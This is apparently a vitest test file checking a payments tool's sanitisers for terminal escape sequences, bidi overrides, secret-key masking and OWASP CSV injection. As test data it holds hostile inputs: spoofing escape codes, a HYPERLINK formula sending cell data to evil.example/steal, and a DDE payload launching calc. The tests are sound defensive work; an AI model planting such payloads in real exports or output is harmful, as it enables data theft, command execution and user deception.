import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../src/io/csv.js';
import { SANDBOX_KEY } from '../../../src/api/target.js';
import { forDisplay, guardTerminal, PUBLIC_SANDBOX_KEY, redactSecrets, safeText } from '../../../src/io/sanitize.js';

const HOSTILE = '\u001b[2J\u001b]0;pwned\u0007\u001b[31mRED\nFAKE: Payment succeeded';

describe('safeText', () => {
  it('shows every escape sequence and line break as text', () => {
    expect(safeText(HOSTILE)).toBe('\\e[2J\\e]0;pwned\\x07\\e[31mRED\\nFAKE: Payment succeeded');
  });
  it('escapes C1 controls and bidi overrides that reorder text', () => {
    expect(safeText('a\u009b31mb')).toBe('a\\x9b31mb');
    expect(safeText('invoice\u202etxt.exe')).toBe('invoice\\u202etxt.exe');
  });
  it('leaves ordinary text, accents and emoji alone', () => {
    expect(safeText('Zoë Ñandú 🏦 — $12.00')).toBe('Zoë Ñandú 🏦 — $12.00');
  });
  it('masks secret keys and webhook secrets', () => {
    expect(safeText('Bearer sk_test_51Habcdefghijklmnopqrstuvwxyz1234')).toBe('Bearer sk_test_…1234');
    expect(redactSecrets('rk_live_abcdefghijklmnop and whsec_abcdefghijklmnopqrstuvwx')).toBe('rk_live_…mnop and whsec_…uvwx');
  });
  it("shows fc's public served-sandbox key whole, and only that key", () => {
    expect(PUBLIC_SANDBOX_KEY).toBe(SANDBOX_KEY);
    expect(safeText(`curl -u ${SANDBOX_KEY}:`)).toBe(`curl -u ${SANDBOX_KEY}:`);
    expect(safeText(`${SANDBOX_KEY}x1234`)).toBe('sk_test_…1234');
    expect(safeText('sk_live_fcsandbox')).toBe('sk_live_…dbox');
  });
});

describe('forDisplay', () => {
  it('escapes strings at any depth, metadata keys included, and keeps the original intact', () => {
    const original = { name: HOSTILE, metadata: { '\u001bcX': 'v\n' }, amount: -100, list: [{ d: '\u0007' }] };
    const shown = forDisplay(original);
    expect(shown).toEqual({ name: safeText(HOSTILE), metadata: { '\\ecX': 'v\\n' }, amount: -100, list: [{ d: '\\x07' }] });
    expect(original.name).toBe(HOSTILE);
  });
});

describe('guardTerminal', () => {
  it("keeps fc's own colours and lines but no other control sequence", () => {
    expect(guardTerminal('\u001b[1mbold\u001b[22m\nnext')).toBe('\u001b[1mbold\u001b[22m\nnext');
    expect(guardTerminal('\u001b]8;;http://evil\u0007link\u001b]8;;\u0007')).toBe('\\e]8;;http://evil\\x07link\\e]8;;\\x07');
    expect(guardTerminal('a\rb\u001b[2Jc')).toBe('a\\rb\\e[2Jc');
  });
  it('in a table cell, a line break stays on one line', () => {
    expect(guardTerminal('RED\nFAKE', false)).toBe('RED\\nFAKE');
  });
});

describe('csvCell (OWASP CSV injection)', () => {
  // Labelled: the cells themselves, in a test's name, would not select it with vitest -t (a regex).
  it.each([
    ['a HYPERLINK formula', '=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")', `'=HYPERLINK("http://evil.example/steal?d="&A2,"Refund")`],
    ['an @SUM formula', "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a cell starting with a plus sign', '+1+cmd', "'+1+cmd"],
    ['a sum starting with a minus sign', '-2+3', "'-2+3"],
    ['a tab before a formula', '\t=1', "'\t=1"],
    ['a carriage return before a formula', '\r=1', "'\r=1"],
  ])('neutralises %s', (_label, input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
  it.each([
    ['a negative amount', '-785.81'],
    ['a signed positive number', '+12'],
    ['an amount with a thousands separator', '-1,234.50'],
    ['a negative dollar amount', '-$785.81'],
    ['plain text', 'ACME Payroll'],
    ['an empty cell', ''],
  ])('keeps %s as it is', (_label, input) => {
    expect(csvCell(input)).toBe(input);
  });
  it('keeps numbers numeric', () => {
    expect(csvCell(-78581)).toBe(-78581);
  });
});
